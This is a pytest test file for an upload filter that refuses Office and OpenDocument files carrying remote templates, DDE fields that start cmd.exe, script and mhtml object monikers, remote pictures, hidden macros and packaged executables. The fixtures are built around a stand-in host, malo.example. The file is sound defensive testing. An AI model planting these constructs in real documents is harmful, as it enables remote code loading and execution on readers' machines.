"""Office documents that load something from another computer or run it are refused; ordinary ones are accepted."""

import bz2
import io
import lzma

import pytest

from content.files import FileRules, RefusedFile, archives, inspect

from . import hostile_files as made

RULES = FileRules(kinds=("document", "archive"), max_bytes=30_000_000)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
XLINK = "http://www.w3.org/1999/xlink"


def verdict(data: bytes, name: str) -> str:
    try:
        inspect(io.BytesIO(data), name=name, rules=RULES)
    except RefusedFile as problem:
        return problem.code
    return "accepted"


def relation(
    kind: str, target: str, *, mode: str = "External", path: str = "word/_rels/settings.xml.rels"
) -> bytes:
    """Return a Word document with one relation to a place outside."""
    entry = f'<Relationship Id="r" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    xml = f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}">{entry}</Relationships>'
    return made.office("docx", {path: xml.encode()})


def field(*codes: str, simple: str = "") -> bytes:
    """Return a Word document with one field, whose code is divided among several runs."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    body = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    if simple:
        body = f'<w:fldSimple w:instr="{simple}"/>'
    xml = f'<w:hdr xmlns:w="{WORD}"><w:p>{body}</w:p></w:hdr>'
    return made.office("docx", {"word/header1.xml": xml.encode()})


def open_document(element: str, *, path: str = "content.xml") -> bytes:
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "draw", "text", "script", "meta", "manifest")
    )
    xml = f'<office:d {spaces} xmlns:xlink="{XLINK}">{element}</office:d>'
    return made.archive(
        {"mimetype": b"application/vnd.oasis.opendocument.text", path: xml.encode()}, method=0
    )


REFUSED = {
    "remote template": relation("attachedTemplate", "https://malo.example/t.dotm"),
    "template on a server": relation("attachedTemplate", "file:///\\\\10.0.0.9\\c\\t.dotx"),
    "template on a server, slashes": relation("attachedTemplate", "//10.0.0.9/c/t.dotx"),
    "template on a server, file": relation("attachedTemplate", "file://10.0.0.9/c/t.dotx"),
    "template in other letters": relation("attachedTemplate", "&#104;ttps://malo.example/", mode="&#69;xternal"),
    "escaped address": relation("attachedTemplate", "%5C%5C10.0.0.9%5Cc"),
    "script as object": relation("oleObject", "script:https://malo.example/x"),
    "remote object": relation("oleObject", "mhtml:http://malo.example/x!x", path="word/_rels/document.xml.rels"),
    "remote picture": relation("image", "http://malo.example/1.png", path="word/_rels/header1.xml.rels"),
    "remote frame": relation("frame", "http://malo.example/", path="WORD/_RELS/webSettings.xml.RELS"),
    "relations in utf-16": made.office("docx", {"word/_rels/a.xml.rels": (
        f'<?xml version="1.0" encoding="utf-16"?><R><Relationship Type="{RELATIONS}/image" TargetMode="External" '
        'Target="http://malo.example"/></R>').encode("utf-16")}),
    "program started by excel": made.office("xlsx", {"xl/externalLinks/externalLink1.xml":
        b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
    "field that starts a program": field("DDE", "AUTO c:\\\\windows\\\\cmd.exe"),
    "simple field that starts a program": field(simple=" dde cmd calc"),
    "field with a remote picture": field(' INCLUDEPICTURE ', '"https://malo.example/1.png" \\d'),
    "remote picture in odt": open_document('<draw:image xlink:href="https://malo.example/1.png"/>'),
    "remote section in odt": open_document('<text:section-source xlink:href="//malo.example/a.odt"/>'),
    "remote template in odt": open_document('<meta:template xlink:href="http://malo.example/"/>', path="meta.xml"),
    "program started by odt": open_document('<office:dde-source office:dde-application="cmd"/>'),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_document_that_loads_something_is_refused(case):
    name = f"a.{'odt' if 'odt' in case else 'xlsx' if 'excel' in case else 'docx'}"

    assert verdict(REFUSED[case], name) == "active"
    assert verdict(made.archive({name: REFUSED[case]}), "todo.zip") == "active"


PACKAGED = made.ole("Root Entry", "\x01Ole10Native") + b"\2\0factura.exe\0C:\\factura.exe\0"
MACROS = {
    "renamed macros": made.office("docx", {"word/datos.bin": made.ole("VBA", "_VBA_PROJECT")}),
    "type of macros": made.office("docx", types="ms-office.vbaProject"),
    "relation to macros": relation("vbaProject", "datos.bin", mode="Internal"),
    "control": relation("control", "activeX/activeX1.xml", mode="Internal"),
    "event in odt": open_document('<script:event-listener xlink:href="vnd.sun.star.script:x?language=Basic"/>'),
    "script in odt": open_document('<office:script script:language="x"/>', path="styles.xml"),
}  # fmt: skip


@pytest.mark.parametrize("case", MACROS)
def test_document_with_hidden_macros_is_refused(case):
    assert verdict(MACROS[case], "a.odt" if "odt" in case else "a.docx") == "macros"


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (made.archive({"viejo.doc": PACKAGED}), "a.zip", "program"),
        (made.office("docx", {"word/embeddings/oleObject1.bin": PACKAGED}), "a.docx", "program"),
        (made.archive({"viejo.doc": made.ole("WordDocument", "_VBA_PROJECT")}), "a.zip", "macros"),
        (made.archive({"viejo.doc": made.ole("EncryptedPackage")}), "a.zip", "encrypted"),
        (made.archive({"a.pdf": made.pdf(b"<</S/JavaScript>>")}), "a.zip", "active"),
        (made.archive({"a.dat": bz2.compress(b"x" * 999)}), "a.zip", "nested"),
        (made.archive({"a.dat": lzma.compress(b"x" * 999)}), "a.zip", "nested"),
        (made.archive({"a.dat": b"a.txt".ljust(257, b"\0") + b"ustar\x0000" + b"\0" * 300}), "a.zip", "nested"),
        (made.archive({"a.dat": b"MSCF" + b"\0" * 99}), "a.zip", "nested"),
        (made.archive({"factura.dat": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 99}), "a.zip", "program"),
        (open_document('<manifest:encryption-data/>', path="META-INF/manifest.xml"), "a.odt", "encrypted"),
        (made.office("docx", {"word/_rels/a.rels": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"}), "a.docx", "damaged"),
        (made.office("docx", {"word/_rels/a.rels": b"<x>"}), "a.docx", "damaged"),
    ],
    ids=["packaged program in zip", "packaged program", "doc with macros in zip", "doc with password in zip",
         "pdf with script in zip", "bzip2", "xz", "tar", "cab", "link of windows", "odt with password",
         "texts that swell", "broken xml"],
)  # fmt: skip
def test_unsafe_part_is_refused(data, name, code):
    assert verdict(data, name) == code


ACCEPTED = {
    "link": relation("hyperlink", "https://example.com/"),
    "template of this computer": relation("attachedTemplate", "file:///C:\\Users\\Ana\\Plantillas\\carta.dotx"),
    "template beside it": relation("attachedTemplate", "carta%20nueva.dotx"),
    "workbook beside it": relation("externalLinkPath", "Costos.xlsx", path="xl/externalLinks/_rels/a.xml.rels"),
    "workbook of this computer": relation("externalLinkPath", "/Users/ana/Costos.xlsx"),
    "inner part": relation("image", "media/image1.png", mode="Internal"),
    "ordinary fields": field(" PAGE "),
    "field of a link": field(' HYPERLINK "https://example.com/DDE" '),
    "contents": field(' TOC \\o "1-3" '),
    "text about it": made.office("docx", {"word/footer1.xml": b"<p>DDEAUTO cmd INCLUDEPICTURE http://a</p>"}),
    "equation": made.office("docx", {"word/embeddings/oleObject1.bin": made.ole("Root Entry", "Equation Native")}),
    "packaged drawing": made.office("docx", {"word/embeddings/o.bin": made.ole("\x01Ole10Native") + b"dibujo.bmp\0"}),
    "picture in odt": open_document('<draw:image xlink:href="Pictures/1.png"/><text:a xlink:href="https://a.example"/>'),
    "template in odt": open_document('<meta:template xlink:href="file:///home/ana/carta.ott"/>', path="meta.xml"),
    "scripts in odt": open_document("<office:scripts/>"),
}  # fmt: skip


@pytest.mark.parametrize("case", ACCEPTED)
def test_ordinary_document_is_accepted(case):
    name = "a.odt" if "odt" in case else "a.docx"

    assert verdict(ACCEPTED[case], name) == "accepted"
    assert verdict(made.archive({name: ACCEPTED[case], "i.pdf": made.PDF}), "todo.zip") == "accepted"


def test_parsed_parts_are_limited(monkeypatch):
    """Ten megabytes may unpack to two hundred, and parsing those would take twenty seconds."""
    part = b"<x>" + b"<y/>" * 200_000 + b"</x>"
    data = made.office("docx", {f"word/header{number}.xml": part for number in range(4)})
    monkeypatch.setattr(archives, "MAX_XML", 4 * len(part) + 200)
    assert verdict(data, "a.docx") == "accepted"

    monkeypatch.setattr(archives, "MAX_XML", 4 * len(part) - 1)
    assert verdict(data, "a.docx") == "bomb"
    assert verdict(made.archive({"a.docx": data}), "a.zip") == "bomb"
